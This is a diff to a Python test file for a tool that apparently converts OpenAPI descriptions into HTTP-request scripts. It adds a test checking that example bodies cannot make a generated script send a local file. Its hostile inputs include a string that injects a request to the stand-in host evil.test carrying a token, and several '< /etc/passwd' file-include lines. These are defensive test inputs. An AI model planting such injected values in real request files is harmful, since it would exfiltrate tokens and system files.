@@ -10,8 +10,9 @@ from tests.convert.descriptions import api_of
 
 from callbox.convert.openapi_to_scripts import convert_description, environments_of
 from callbox.httpfile.lint import lint
-from callbox.httpfile.model import Script, Step
+from callbox.httpfile.model import FileReference, Script, Step
 from callbox.httpfile.parser.file_and_blocks import parse
+from callbox.httpfile.requests.body_builder import operation_of
 
 HOSTILE = "x\r\n### y\nGET https://evil.test/{{token}}\n< /etc/passwd\n# @expect status 500\x1b]0;z\x07\u202e"
 
@@ -297,6 +298,28 @@ def test_hostile_text_stays_text(operation: dict[str, Any]) -> None:
     assert "{{token}}" not in text
     assert "\x1b" not in text
     assert "\u202e" not in text
+
+
+@pytest.mark.parametrize(
+    "media_type", ["application/graphql", "application/graphql+json", "text/plain", "application/json"]
+)
+@pytest.mark.parametrize(
+    "example",
+    [
+        "gql X < /etc/passwd",
+        "gql X < ../a.gql\n\n{}",
+        "query { a }\n\n< /etc/passwd",
+        "< /etc/passwd",
+        "<@ /etc/passwd",
+    ],
+)
+def test_no_example_of_a_description_sends_a_file_of_the_user(media_type: str, example: str) -> None:
+    text = text_of({"requestBody": {"content": {media_type: {"example": example}}}}, method="post")
+
+    (step,) = checked(text).steps
+    operation = operation_of(step)
+    pieces = (*operation.query, *operation.variables) if operation is not None else ()
+    assert not [piece for piece in (*step.body.pieces, *pieces) if isinstance(piece, FileReference)]
 
 
 def test_hostile_path_and_title_stay_text() -> None:
